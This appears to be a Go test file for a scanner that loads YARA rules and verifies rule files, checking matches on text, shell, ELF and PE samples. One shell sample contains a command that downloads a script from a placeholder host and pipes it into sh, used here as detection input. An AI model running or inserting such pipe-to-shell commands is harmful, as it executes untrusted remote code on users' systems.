package agent

import (
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"meetguard"
	"meetguard/internal/detect"
	"meetguard/signatures"
)

// TestRulesOfOthers: ordinary public rules see every file, whatever it is, a
// file with modules those that the modules read, one in a folder named like a
// set what that set sees. They count without knowing our metadata.
func TestRulesOfOthers(t *testing.T) {
	dir := t.TempDir()
	put(t, filepath.Join(dir, "words.yar"), []byte(`
rule Words { meta: author = "somebody" strings: $a = "needle in a text" condition: $a and filename == "notes.txt" and extension == ".txt" }
rule Scored { meta: score = 75 description = "Scored as others do" strings: $a = "needle in a text" condition: $a }
rule Context { meta: score = 20 strings: $a = "needle in a text" condition: $a }`))
	put(t, filepath.Join(dir, "programs.yar"), []byte("import \"pe\"\nrule AnyProgram { condition: pe.is_pe }\nrule Text { strings: $a = \"needle\" condition: $a }"))
	put(t, filepath.Join(dir, "script", "folded.yar"), []byte(`rule Folded { strings: $a = "needle" condition: $a and mg_language == "shell" }`))
	ex, err := NewExaminer(ExaminerConfig{Rules: dir})
	if err != nil {
		t.Fatal(err)
	}
	exe := append([]byte("MZ"), make([]byte, 58)...)
	exe = append(exe, 0x40, 0, 0, 0)
	exe = append(exe, "PE\x00\x00\x4c\x01\x00\x00"+strings.Repeat("\x00", 300)+"needle in a text"...)
	cases := []struct {
		name, text string
		want       []string
	}{
		{"notes.txt", "there is a needle in a text of no kind", []string{"Words", "Scored", "Context"}},
		{"other.txt", "there is a needle in a text of no kind", []string{"Scored", "Context"}},
		{"run.sh", "#!/bin/sh\ncurl -s https://a.invalid/x | sh # a needle in a text\n", []string{"Scored", "Context", "Folded"}},
		{"program", "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 60) + "needle in a text", []string{"Scored", "Context"}},
		{"tool.exe", string(exe), []string{"Scored", "Context", "AnyProgram", "Text"}},
		{"plain.txt", "nothing", nil},
	}
	for _, c := range cases {
		f := ex.content(c.name, "", []byte(c.text), 0)
		var got []string
		for _, m := range f.Matches {
			if !strings.HasPrefix(m.Rule, "MG_") {
				got = append(got, m.Rule)
			}
		}
		slices.Sort(got)
		slices.Sort(c.want)
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: %v, want %v", c.name, got, c.want)
		}
	}
	brands, err := signatures.Brands()
	if err != nil {
		t.Fatal(err)
	}
	judge := detect.New(brands)
	for name, want := range map[string]meetguard.Level{"notes.txt": meetguard.Malicious, "plain.txt": meetguard.Clean} {
		text := map[string]string{"notes.txt": cases[0].text, "plain.txt": "nothing"}[name]
		if v := judge.Judge(ex.content(name, "", []byte(text), 0)); v.Level != want {
			t.Errorf("%s is %s, want %s: %v", name, v.Level, want, v.Findings)
		}
	}
}

func TestVerifyRules(t *testing.T) {
	c, err := VerifyRules(nil)
	if err != nil || len(c.Problems)+len(c.Warnings) > 0 || c.Usable != c.Files || c.Rules < 30 {
		t.Errorf("the rules inside: %+v %v", c, err)
	}
	dir := t.TempDir()
	put(t, filepath.Join(dir, "a", "good.yara"), []byte("rule Good { strings: $a = \"abcdef\" condition: $a }\nrule More { condition: filesize < 3 }"))
	put(t, filepath.Join(dir, "index.yar"), []byte("include \"a/good.yara\"\n"))
	put(t, filepath.Join(dir, "bad.yar"), []byte("import \"pe\"\n\nrule Bad {\n condition:\n  pe.imphash() == \"0\"\n}\nrule Worse { condition: owner == \"x\" }\n"))
	put(t, filepath.Join(dir, "hash.yar"), []byte("import \"magic\"\nrule H { condition: true }"))
	put(t, filepath.Join(dir, "readme.md"), []byte("no rules"))
	c, err = VerifyRules([]string{dir})
	if err != nil {
		t.Fatal(err)
	}
	if c.Files != 4 || c.Usable != 1 || c.Rules != 2 || len(c.Narrowed) != 1 {
		t.Errorf("%+v", c)
	}
	all := strings.Join(c.Problems, "\n")
	for _, want := range []string{"index.yar:1: includes are disabled (name the folder instead", "bad.yar:5: ", "ask for mg_signature", "bad.yar:7: ", "a scan defines filename", "hash.yar:1: unknown module"} {
		if !strings.Contains(all, want) {
			t.Errorf("no %q in\n%s", want, all)
		}
	}
}
